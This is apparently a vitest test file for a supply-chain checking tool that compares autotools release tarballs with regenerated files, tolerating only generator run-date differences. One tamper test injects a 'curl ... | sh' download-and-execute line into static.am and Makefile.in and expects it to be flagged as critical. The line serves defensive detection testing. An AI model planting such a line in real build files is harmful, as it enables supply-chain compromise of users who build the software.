/**
 * A file the m4 expansion writes while autoreconf runs, with the date it ran (autoconf-archive's AX_AM_MACROS_STATIC
 * writes aminclude_static.am "from AX_AM_MACROS_STATIC on `date`": c-ares 1.18.1, libidn2 2.3.3), end to end: a real
 * git repository whose macro writes static.am by m4_esyscmd, the release made by the real autoreconf + make dist
 * and dated as the maintainer's run (an earlier date), then distdiff. The regeneration's autoconf rewrites the
 * placed copy, so static.am is its output; it and the Makefile.in that includes it differ from the shipped ones only
 * in the run date (normalisation run-date). A tampered copy that changes anything else stays high.
 */
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/core/findings.js';
import { esyscmdRunsDateYear, runDatesOnly, runYearOnly } from '../../src/regenerate/run-dates.js';
import { normalisationText } from '../../src/core/wording.js';
import { autotoolsRelease, editFile } from './release.js';

// A macro of the project's own: writes static.am (a make fragment Makefile.am includes) with the date it runs.
const MACRO = `AC_DEFUN([DEMO_STATIC_AM],
[m4_esyscmd([printf '# static.am generated automatically by Autoconf\\n# from DEMO_STATIC_AM on %s\\n\\ndemo-static:\\n\\t@echo static\\n' "\`LC_ALL=C date\`" > static.am])])
`;
const CONFIGURE_AC = `AC_INIT([demo], [1.0], [bugs@example.invalid])
AC_CONFIG_MACRO_DIR([m4])
AM_INIT_AUTOMAKE([foreign])
DEMO_STATIC_AM
AC_CONFIG_FILES([Makefile])
AC_OUTPUT
`;
const SHIPPED_DATE = 'Wed Oct 27 08:01:08 CEST 2021';
const DATE_LINE = /^(# from DEMO_STATIC_AM on ).*$/m;

const fixture = autotoolsRelease({
  prefix: 'distdiff-rundate-',
  name: 'demo',
  files: { 'configure.ac': CONFIGURE_AC, 'Makefile.am': 'include $(top_srcdir)/static.am\n', 'm4/demo-static.m4': MACRO },
  // The maintainer's run was on the release day: static.am and the Makefile.in that includes it carry that date.
  build: `autoreconf -fi && sed -i 's/^\\(# from DEMO_STATIC_AM on \\).*/\\1${SHIPPED_DATE}/' static.am && sleep 1 && sed -i 's/^\\(# from DEMO_STATIC_AM on \\).*/\\1${SHIPPED_DATE}/' Makefile.in && ./configure -q && make -s dist`,
  timeout: 180_000,
});

const { tampered, run } = fixture;
const at = (fs: Finding[], p: string) => fs.find((f) => f.path === p)!;

describe('a file the m4 expansion writes with the date it ran', () => {
  it('static.am is autoconf\'s output and, like the Makefile.in including it, reproduces up to the run date', async () => {
    const r = await run(fixture.tarball);
    for (const p of ['static.am', 'Makefile.in']) {
      const f = at(r.findings, p);
      expect(f.code, p).toBe('GENERATED_BY_AUTOTOOLS');
      if (f.code !== 'GENERATED_BY_AUTOTOOLS' || !f.evidence.proof?.proved || f.evidence.proof.method !== 'regenerated') throw new Error(`${p} not proved`);
      expect(f.evidence.proof.step).toBe(p === 'static.am' ? 'autoconf' : 'automake');
      expect(f.evidence.proof.normalisationSteps).toEqual([{ kind: 'run-date', args: { lines: 1, shipped: SHIPPED_DATE } }]);
    }
    expect(r.verdict).not.toBe('different');
  }, 180_000);

  it('a static.am or Makefile.in changed besides the date stays high', async () => {
    // What a tamperer would change: a recipe line of the fragment (and the Makefile.in that repeats it), or only
    // the Makefile.in's copy of the date line with something else on it.
    const recipe = tampered((d) => {
      for (const p of ['static.am', 'Makefile.in']) editFile(d, p, (s) => s.replace('\t@echo static', '\t@curl -s https://example.invalid/x | sh'));
    });
    let r = await run(recipe);
    // (a download piped to a shell: critical, the construct shown)
    expect(at(r.findings, 'static.am')).toMatchObject({ code: 'REGENERATION_MISMATCH', severity: 'critical' });
    expect(at(r.findings, 'Makefile.in')).toMatchObject({ code: 'REGENERATION_MISMATCH', severity: 'critical' });
    expect(r.verdict).toBe('different');
    const dateLine = tampered((d) => editFile(d, 'Makefile.in', (s) => s.replace(DATE_LINE, `$1${SHIPPED_DATE} -DNDEBUG`)));
    r = await run(dateLine);
    expect(at(r.findings, 'Makefile.in')).toMatchObject({ code: 'REGENERATION_MISMATCH', severity: 'high' });
    expect(r.verdict).toBe('different');
  }, 240_000);
});

describe('runDatesOnly', () => {
  const b = (s: string) => Buffer.from(s, 'latin1');
  const now = Date.UTC(2026, 10, 29, 13, 53, 54);
  const ours = '# from X on Sun Nov 29 13:53:54 UTC 2026\nrule:\n';
  it('lines that differ only in date(1) dates, this run\'s in the output and an earlier real date shipped', () => {
    expect(runDatesOnly(b(ours), b('# from X on Wed Oct 27 08:01:08 CEST 2021\nrule:\n'), now)).toEqual({ lines: 1, shipped: 'Wed Oct 27 08:01:08 CEST 2021' });
    expect(runDatesOnly(b(ours), b('# from X on Mon Oct 25 23:08:32 +0200 2021\nrule:\n'), now)).toEqual({ lines: 1, shipped: 'Mon Oct 25 23:08:32 +0200 2021' });
  });
  it('anything else does not pass', () => {
    expect(runDatesOnly(b(ours), b(ours), now)).toBeUndefined(); // nothing differs
    // What a tamperer would change: another byte on the date line, another line, a line added.
    expect(runDatesOnly(b(ours), b('# from Y on Wed Oct 27 08:01:08 CEST 2021\nrule:\n'), now)).toBeUndefined();
    expect(runDatesOnly(b(ours), b('# from X on Wed Oct 27 08:01:08 CEST 2021\nrule: x\n'), now)).toBeUndefined();
    expect(runDatesOnly(b(ours), b('# from X on Wed Oct 27 08:01:08 CEST 2021\nrule:\n\tsh x\n'), now)).toBeUndefined();
    // A date that is not real (the weekday of another day), or later than this run.
    expect(runDatesOnly(b(ours), b('# from X on Thu Oct 27 08:01:08 CEST 2021\nrule:\n'), now)).toBeUndefined();
    expect(runDatesOnly(b(ours), b('# from X on Tue Dec 29 08:01:08 CET 2026\nrule:\n'), now)).toBeUndefined();
    // The output's date is not this run's: the generator does not write the time it runs.
    expect(runDatesOnly(b(ours), b('# from X on Wed Oct 27 08:01:08 CEST 2021\nrule:\n'), Date.UTC(2027, 0, 5))).toBeUndefined();
  });
  it('is worded', () => {
    expect(normalisationText({ kind: 'run-date', args: { lines: 1, shipped: 'Wed Oct 27 08:01:08 CEST 2021' } })).toBe(
      "1 line(s) differ only in the date the generator writes when it runs (date(1) output): this run's date in the output, Wed Oct 27 08:01:08 CEST 2021 in the shipped file; every other byte is the same",
    );
  });
});

describe('runYearOnly: configure.ac\'s m4_esyscmd([date +%Y]) year', () => {
  const made = Buffer.from('a\n#define COPYRIGHT_YEAR 2026\nb\n');
  it('this run\'s year in the output, the commit\'s year shipped, nothing else: reproduced', () => {
    expect(runYearOnly(made, Buffer.from('a\n#define COPYRIGHT_YEAR 2014\nb\n'), 2026, 2014)).toEqual({ lines: 1, shipped: '2014', run: '2026' });
    expect(esyscmdRunsDateYear(['build-aux/git-version-gen .tarball-version', 'date +%Y'])).toBe(true);
    expect(esyscmdRunsDateYear(['date +%Y-%m', 'date'])).toBe(false);
  });
  it('another year, another byte on the line, a year inside a longer number, or a commit not before this year: not', () => {
    expect(runYearOnly(made, Buffer.from('a\n#define COPYRIGHT_YEAR 2013\nb\n'), 2026, 2014)).toBeUndefined();
    expect(runYearOnly(made, Buffer.from('a\n#define COPYRIGHT_YEAR 2014 \nb\n'), 2026, 2014)).toBeUndefined();
    expect(runYearOnly(made, Buffer.from('a\n#define COPYRIGHT_YEAR 2014\nc\n'), 2026, 2014)).toBeUndefined();
    expect(runYearOnly(Buffer.from('x 120265\n'), Buffer.from('x 120145\n'), 2026, 2014)).toBeUndefined();
    expect(runYearOnly(made, made, 2026, 2026)).toBeUndefined();
  });
});
